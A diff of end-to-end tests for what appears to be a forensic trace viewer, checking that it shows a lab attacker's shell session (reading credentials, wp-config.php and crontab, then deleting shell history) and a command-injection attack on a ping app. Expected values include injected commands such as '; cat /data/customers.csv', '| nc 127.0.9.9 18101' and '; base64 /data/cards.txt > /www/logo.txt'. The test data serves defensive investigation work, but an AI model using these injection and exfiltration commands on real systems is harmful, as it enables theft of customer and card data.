@@ -82,12 +82,14 @@ describe.skipIf(why !== undefined)(`a lab${skipNote(why)}`, () => {
     const screen = page.page.locator('.terminal-screen');
     await expect.poll(() => screen.textContent()).toMatch(/# sh kit\/collect\.sh[\s\S]*DB_PASSWORD[\s\S]*# rm \/root\/\.ash_history/);
     await page.screenshot('lab-terminal-shell-1');
-    // 2: what the script did: it read the configuration, and wrote where jobs are kept.
+    // 2, 3: what the script did: it read the configuration, and wrote where jobs are kept.
     await page.place('File Opens List').click();
-    await page.setFilter('proc.pname=sh or proc.name=sh');
-    await expect.poll(() => page.page.locator('.data-table').textContent()).toContain('/etc/crontab');
-    // 3: the traces that were to go.
-    await page.page.keyboard.press('o');
+    await page.setFilter('proc.cmdline = "sh kit/collect.sh" or proc.pcmdline = "sh kit/collect.sh"');
+    await expect.poll(() => page.page.locator('.data-table').textContent()).toMatch(/\/var\/www\/wp-config\.php[\s\S]*\/etc\/crontab|\/etc\/crontab[\s\S]*\/var\/www\/wp-config\.php/);
+    // 4, 5, 6: the traces that were to go.
+    await page.page.keyboard.press('Escape');
+    await page.setFilter('');
+    await page.place('Overview').click();
     await page.tile('deleted-files').dblclick();
     await expect.poll(() => page.page.locator('.data-table').textContent()).toContain('.ash_history');
     await page.screenshot('lab-terminal-shell-2');
@@ -101,7 +103,7 @@ describe.skipIf(why !== undefined)(`a lab${skipNote(why)}`, () => {
     const table = page.page.locator('.data-table');
     await expect.poll(() => table.textContent()).toContain('; cat /data/customers.csv');
     expect(await table.textContent()).toContain('| nc 127.0.9.9 18101');
-    expect(await table.textContent()).toContain('; cp /data/cards.txt /www/logo.txt');
+    expect(await table.textContent()).toContain('; base64 /data/cards.txt > /www/logo.txt');
     await page.screenshot('lab-ping-app-1');
     // 3, 4: the first, in the page itself.
     await page.place('I/O Streams').click();
@@ -113,9 +115,9 @@ describe.skipIf(why !== undefined)(`a lab${skipNote(why)}`, () => {
     await page.page.getByRole('button', { name: 'Contents' }).first().click();
     await expect.poll(() => page.page.locator('.transferred').textContent()).toMatch(/tar\.gz archive/);
     await page.screenshot('lab-ping-app-2');
-    // 8: the third, as a published file: card numbers, which are marked. Back goes to the streams.
+    // 8: the third, as a published file, encoded: what was read for it are card numbers, which are marked. Back goes to the streams.
     await page.page.goBack();
-    await page.setFilter('evt.buffer contains "4111 1111" and fd.sport=18100');
+    await page.setFilter('evt.buffer contains "4111 1111"');
     await expect.poll(() => page.page.locator('.piece-secret').first().textContent()).toBe('4111 1111 1111 1111');
     await page.screenshot('lab-ping-app-3');
   });
